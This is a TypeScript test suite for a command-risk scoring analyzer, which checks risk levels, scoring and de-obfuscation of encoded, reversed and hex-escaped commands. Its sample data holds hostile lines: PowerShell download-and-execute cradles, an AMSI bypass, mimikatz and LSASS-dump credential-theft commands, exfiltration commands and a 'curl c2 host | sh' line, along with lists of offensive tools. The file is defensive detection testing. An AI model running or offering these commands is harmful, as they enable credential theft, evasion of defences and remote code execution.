/**
 * Goal: the published scale with keys that count, the levels that playbooks rely on, reasons for each point, and no input that throws or hangs.
 * Method: lines with their band and categories, one sample line per pattern, hostile lines of a megabyte, properties. How well the analysis separates good from bad
 * lines is not tested here: it is measured over labelled lines.
 */
import fc from 'fast-check';
import { RE2JS } from 're2js';
import { describe, expect, test } from 'vitest';
import { publishedAnalysis, CUSTOM_PATTERNS_MAX, LINE_CHARS_MAX } from './analyze.ts';
import { CATEGORIES } from './categories.ts';
import { riskOf, scoreOf } from './score.ts';
import type { CategoryFinding, Group } from './types.ts';

const CRADLE = `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://pkg.example.net/a.ps1')"`;
const AMSI = `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')`;

function categories(line: string, customPatterns: readonly string[] = []): readonly string[] {
  return publishedAnalysis(line, { customPatterns }).findings.map(({ category }) => category);
}

function utf16(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

describe('levels', () => {
  test.each([
    [`cmd.exe /c powershell ${CRADLE}`, 'High Risk'],
    [`powershell -w hidden -enc ${utf16("iex (irm 'http://pkg.example.net/a')")}`, 'High Risk'],
    ['powershell -w hidden -ep bypass -c "irm http://pkg.example.net/a|iex"', 'High Risk'],
    [`PoWeRsHeLl ${CRADLE} ${AMSI}`, 'Critical Risk'],
    ['mshta http://host.example.net/a.hta', 'High Risk'],
    ['"C:\\Windows\\explorer.exe"', 'Low Risk'],
    ['C:\\ProgramData\\qk3.exe', 'Low Risk'],
    ['msiexec /i http://host/setup.msi /qn', 'Low Risk'],
    ['cmd.exe /c start /b msiexec /i http://pkg.example.net/setup.msi /qn', 'Low Risk'],
    ['setup.exe --type prod.cfg https://updates.vendor.example.com', 'Low Risk'],
    ['mimikatz.exe', 'Low Risk'],
    ['ping dc01.corp.example.com', 'Low Risk'],
    [`python3 -c "import smtplib; s=smtplib.SMTP(); s.connect('mail.example.com')"`, 'Low Risk'],
    [`ssh -o StrictHostKeyChecking=no deploy@10.0.0.5 'tree /srv'`, 'Low Risk'],
    ['cmd.exe /c echo ${alert.agentid} ${lists.ApiKeys}', 'Low Risk'],
    ['', 'Low Risk'],
  ])('%s is %s', (line, risk) => {
    expect(publishedAnalysis(line).risk).toBe(risk);
  });

  test.each([
    'whoami /all',
    'net user /domain',
    'nltest /dclist:corp.example.com',
    'systeminfo',
    'nslookup a.example.com 8.8.8.8',
    'powershell -nop Get-ADUser',
  ])('one discovery command is at most medium: %s', (line) => {
    expect(['Low Risk', 'Medium Risk']).toContain(publishedAnalysis(line).risk);
  });
});

describe('the published scale', () => {
  const finding = (group: Group, weight: number): CategoryFinding => ({
    kind: 'category',
    category: 'x',
    matches: [],
    why: '',
    group,
    weight,
  });

  test.each<[string, CategoryFinding[], number]>([
    ['nothing', [], 0],
    ['one high', [finding('high', 25)], 21],
    ['high and a weight of 5', [finding('high', 25), finding('low', 5)], 50],
    ['high and a weight of 10', [finding('high', 25), finding('low', 10)], 54],
    ['two low', [finding('low', 10), finding('low', 5)], 21],
    ['medium and low', [finding('medium', 10), finding('low', 10)], 33],
    ['all', Array.from({ length: 9 }, () => finding('high', 25)), 100],
  ])('%s', (_name, findings, score) => {
    expect(scoreOf(findings).score).toBe(score);
  });

  test('the bounds belong to the lower band', () => {
    expect([0, 25, 26, 50, 51, 90, 91, 100].map(riskOf)).toEqual([
      'Low Risk',
      'Low Risk',
      'Medium Risk',
      'Medium Risk',
      'High Risk',
      'High Risk',
      'Critical Risk',
      'Critical Risk',
    ]);
  });

  test('the explanation adds up to the score', () => {
    const { explanation, score } = publishedAnalysis(`cmd.exe /c powershell ${CRADLE}`);
    expect(explanation.map(({ points }) => points)).toEqual([25, 5, 10, 30, 0]);
    expect(explanation.at(-1)).toMatchObject({ total: 70, step: `70 of 120 points is a score of ${score}` });
  });
});

const SAMPLES: Readonly<Record<string, readonly string[]>> = {
  suspicious_powershell: [
    'Invoke-Expression $x',
    'iex ($x)',
    'irm host | iex',
    'New-Object Net.WebClient',
    '$c.DownloadFile(1)',
    '$c.OpenRead(1)',
    'FromBase64String',
    '[Reflection.Assembly]::Load(1)',
    'VirtualAlloc',
    'CreateThread',
    'WriteProcessMemory',
    'GetDelegateForFunctionPointer',
    'Invoke-Shellcode',
    'powershell -w hidden iwr x',
    'IO.Compression.GzipStream',
    'powershell -version 2',
  ],
  credential_dumping: [
    'sekurlsa::logonpasswords',
    'lsadump::sam',
    'kerberos::golden',
    'rundll32 comsvcs.dll, MiniDump 6',
    'rundll32 comsvcs.dll,#24',
    'procdump -ma lsass.exe',
    'lsass.dmp',
    'Out-Minidump',
    'reg save HKLM\\SAM C:\\x',
    'copy ntds.dit',
    'ntdsutil "ac i ntds" "ifm"',
    'cmdkey /list',
    'vaultcmd /listcreds',
    'Invoke-Mimikatz',
  ],
  amsi_bypass: [
    'AmsiUtils',
    'amsiInitFailed',
    'AmsiScanBuffer',
    'AmsiScanString',
    'amsiContext',
    'amsiSession',
    'amsi.dll',
  ],
  malicious_tools: [
    'mimikatz mimidrv sharphound bloodhound rubeus lazagne seatbelt winpeas linpeas powerview powersploit powerup crackmapexec netexec secretsdump',
    'meterpreter msfvenom safetykatz kerbrute gsecdump pwdump fgdump koadic evil-winrm inveigh juicypotato roguepotato printspoofer',
    'godpotato sharpup sharpview ligolo xmrig nanodump cobaltstrike impacket Invoke-Kerberoast',
  ],
  macos_applescript: ['osascript -e \'display dialog "Password" with hidden answer\''],
  mshta: ['mshta.exe javascript:x'],
  social_engineering: [
    "# I'm not a robot",
    'verify you are human',
    'Captcha verification',
    'Cloudflare verification',
    'Press OK to continue',
    'x \u2705',
    'x \u2714',
  ],
  data_exfiltration: [
    'curl -T a http://h',
    'curl -F file=@a http://h',
    'wget x --post-file a',
    'irm h -Method Post -InFile a',
    '$c.UploadFile(1)',
    'ftp -s:a',
    'rclone copy a b',
    'bitsadmin /transfer j /upload h',
    'megacmd put',
  ],
  lateral_movement: [
    'psexec.exe \\\\h cmd',
    'paexec x',
    'copy a \\\\h\\c$\\a',
    'wmic /node:h process',
    'winrs -r:h cmd',
    'Enter-PSSession h',
    'Invoke-Command -ComputerName h',
    'schtasks /create /s h',
    'sc \\\\h create x',
    'Invoke-WmiMethod -ComputerName h',
    'wmiexec.py h',
  ],
  windows_temp_path: [
    '%TEMP%\\a',
    '%tmp%\\a',
    '$env:TEMP',
    'C:\\Users\\a\\AppData\\Local\\Temp\\a',
    'C:\\Windows\\Temp\\a',
    'C:\\Users\\Public\\a',
    '%public%\\a',
    'C:\\temp\\a',
    'd:\\tmp\\a',
  ],
  reconnaissance: [
    'whoami',
    'systeminfo',
    'ipconfig',
    'ifconfig',
    'nltest /x',
    'netstat -an',
    'tasklist',
    'qwinsta',
    'quser',
    'dsquery x',
    'adfind x',
    'nslookup x',
    'tracert x',
    'nbtstat -a',
    'net user x',
    'query user',
    'arp -a',
    'route print',
    'hostname',
    'wmic os get',
    'Get-ADUser',
    'cat /etc/passwd',
    'uname -a',
  ],
  macos_reconnaissance: [
    'system_profiler',
    'sw_vers',
    'ioreg',
    'dscl . list /Users',
    'csrutil status',
    'networksetup -listx',
    'scutil --dns',
    'dscacheutil -q user',
    'profiles list',
  ],
  suspicious_parameters: [
    ' -nop',
    ' -noni',
    ' -w hidden',
    ' -ep bypass',
    ' -ExecutionPolicy Unrestricted',
    'powershell x -sta',
    'powershell /enc AAAAAAAA',
    'powershell \u2013enc AAAAAAAA',
  ],
};

describe.each(CATEGORIES)('$key', ({ key, patterns }) => {
  test('every pattern has a sample line that it fits, needs included', () => {
    for (const { source, needs } of patterns) {
      const compiled = RE2JS.compile(source, RE2JS.CASE_INSENSITIVE | RE2JS.DOTALL);
      const fitting = (SAMPLES[key] ?? []).filter((line) => compiled.matcher(line).find());
      expect({ source, fits: fitting.length > 0 }).toEqual({ source, fits: true });
      expect(fitting.filter((line) => !line.toLowerCase().includes(needs))).toEqual([]);
    }
  });

  test('every sample line is found', () => {
    expect((SAMPLES[key] ?? []).filter((line) => !categories(line).includes(key))).toEqual([]);
  });
});

test.each([
  ['C:\\tools\\dir\\whoami-docs.txt', 'reconnaissance'],
  ['deploy --hostname web1', 'reconnaissance'],
  ['sh install.sh run.py', 'indicators'],
  ['curl http://10.0.0.5', 'reconnaissance'],
  ['ping 10.0.0.5', 'indicators'],
  ['PowerShell -File a.ps1', 'mixed_case_powershell'],
  ['node -e "split(\'+\')"', 'obfuscated'],
  ['C:\\app\\12.0\\x64\\x86', 'obfuscated'],
  ['cp /usr/share/something/longer/than/that/file /x', 'base64'],
  [`powershell -enc ${utf16('Get-Process')}`, 'double_encoding'],
])('%s is no %s', (line, category) => {
  expect(categories(line)).not.toContain(category);
});

describe('what is hidden is seen', () => {
  test.each([
    ['short encoded command', `powershell -enc ${utf16('whoami')}`, 'powershell -enc whoami', 'base64'],
    ['abbreviated flag', `powershell /ec ${utf16('iex $a')}`, 'powershell /ec iex $a', 'suspicious_powershell'],
    ['en dash', `powershell \u2013e ${utf16('amsiutils')}`, 'powershell \u2013e amsiutils', 'amsi_bypass'],
    [
      'payload in a payload',
      `powershell -enc ${utf16(`powershell -enc ${utf16('whoami')}`)}`,
      'powershell -enc powershell -enc whoami',
      'double_encoding',
    ],
    [
      'base64 in a call',
      `php -r "eval(base64_decode('${btoa('system whoami')}'))"`,
      `php -r "eval(base64_decode('system whoami'))"`,
      'base64',
    ],
    [
      'base64 word',
      `echo ${btoa('curl http://c2.example.net/x | sh')} | base64 -d`,
      'echo curl http://c2.example.net/x | sh | base64 -d',
      'indicators',
    ],
    ['reversed', 'x imaohw llehsrewop', 'powershell whoami x', 'reversed_command'],
    ['hex', 'printf "\\x77\\x68\\x6f\\x61\\x6d\\x69"', 'printf "whoami"', 'obfuscated'],
    ['octal', 'printf "\\167\\150\\157\\141\\155\\151"', 'printf "whoami"', 'obfuscated'],
    ['joined strings', `& ('amsi' + 'Utils')`, `& ('amsiUtils')`, 'amsi_bypass'],
  ])('%s', (_name, line, parsed, category) => {
    const analysis = publishedAnalysis(line);
    expect(analysis).toMatchObject({ originalCommand: line, parsedCommand: parsed });
    expect(analysis.findings.map((finding) => finding.category)).toContain(category);
  });

  test('double encoding is reported, once', () => {
    const line = `powershell -enc ${utf16(`powershell -enc ${utf16('whoami')}`)}`;
    expect(publishedAnalysis(line).isDoubleEncoded).toBe(true);
    expect(publishedAnalysis(`powershell -enc ${utf16('whoami')}`).isDoubleEncoded).toBe(false);
  });
});

describe('custom patterns', () => {
  test('count once, in the high group, and are not split at commas', () => {
    const { findings } = publishedAnalysis('setup.exe --x aa,b', { customPatterns: ['a{1,3},b', '--x'] });
    expect(findings).toMatchObject([
      { kind: 'category', category: 'custom_patterns', weight: 25, matches: ['aa,b', '--x'] },
    ]);
  });

  test.each(['(', '(?=x)', 'a{1001}', '', '  ', 'x'.repeat(1001), '\\1'])(
    'an invalid one is a finding, not an exception: %.20s',
    (pattern) => {
      const analysis = publishedAnalysis('x', { customPatterns: [pattern] });
      expect(analysis).toMatchObject({ score: 0, findings: [{ kind: 'error', category: 'custom_patterns' }] });
    },
  );

  test('one that fits everything by fitting nothing is not found', () => {
    expect(categories('abc', ['z*'])).toEqual([]);
  });

  test.each(['(?:a?){300}b', '(?:(?:a{1,30}){1,30})b', '(a*)'.repeat(240)])(
    'an expensive one takes little time: %.20s',
    (pattern) => {
      const started = performance.now();
      const { findings } = publishedAnalysis('a'.repeat(LINE_CHARS_MAX), {
        customPatterns: Array.from({ length: 8 }, () => pattern),
      });
      expect(performance.now() - started).toBeLessThan(4000);
      expect(findings.map(({ kind }) => kind)).toContain('limit');
    },
  );

  test('too many are named', () => {
    const { findings } = publishedAnalysis('x', {
      customPatterns: Array.from({ length: CUSTOM_PATTERNS_MAX + 1 }, () => 'y'),
    });
    expect(findings).toMatchObject([{ kind: 'error' }]);
  });
});

describe('bounds', () => {
  test('of a long line the head and the tail are read, and it says so', () => {
    const { findings, parsedCommand } = publishedAnalysis(`mimikatz ${'x'.repeat(2 * LINE_CHARS_MAX)} amsiutils`);
    expect(findings.map(({ category }) => category)).toEqual(['amsi_bypass', 'malicious_tools', 'limits']);
    expect(parsedCommand.length).toBeLessThanOrEqual(LINE_CHARS_MAX);
  });

  test('payloads nested beyond the bound end, and it says so', () => {
    let payload = 'whoami';
    for (let depth = 0; depth < 8; depth += 1) payload = `powershell -enc ${utf16(payload)}`;
    expect(categories(payload)).toContain('limits');
  });

  test.each([
    'a',
    'powershell -e ',
    'osascript ',
    'procdump ',
    'curl -d ',
    "'a'+",
    '\\x41',
    'QUJD',
    'llehsrewop ',
    'http://a',
    '1.1.1.1 ',
    'a.com:1 ',
    '-e    ',
    '(',
    '\ud800',
    'iex( whoami %temp% .upload( osascript sekurlsa:: amsiutils robot mshta \\\\a\\c$ ',
    "FromBase64String('QUFB",
    '" + "',
    'PowerSHELL',
  ])('a megabyte of %j takes little time', (piece) => {
    const started = performance.now();
    publishedAnalysis(piece.repeat(1_000_000 / piece.length));
    expect(performance.now() - started).toBeLessThan(4000);
  });

  const piece = fc.constantFrom(
    'powershell',
    'LLEHSREWOP',
    ' -enc ',
    utf16('whoami'),
    utf16(`powershell -enc ${utf16('x y z')}`),
    '\\x41',
    '\\101',
    "'",
    '"',
    '+',
    ' ',
    'iex',
    'http://',
    '\ud800',
    '\u0000',
    'FromBase64String("',
    '=',
    '$&',
    '$1',
    '\u2013e ',
    'İ',
  );

  test('any line gives a score within bounds that its findings explain, and categories are named once', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 25 }),
        fc.array(fc.string({ maxLength: 8 }), { maxLength: 2 }),
        (pieces, customPatterns) => {
          const line = pieces.join('');
          const { score, risk, findings, explanation, originalCommand } = publishedAnalysis(line, { customPatterns });
          const keys = findings.flatMap(({ kind, category }) => (kind === 'category' ? [category] : []));
          expect(originalCommand).toBe(line);
          expect(risk).toBe(riskOf(score));
          expect(score).toBe(Math.min(100, Math.round(((explanation.at(-1)?.total ?? 0) / 120) * 100)));
          expect(new Set(keys).size).toBe(keys.length);
        },
      ),
      { numRuns: 300 },
    );
  });
});
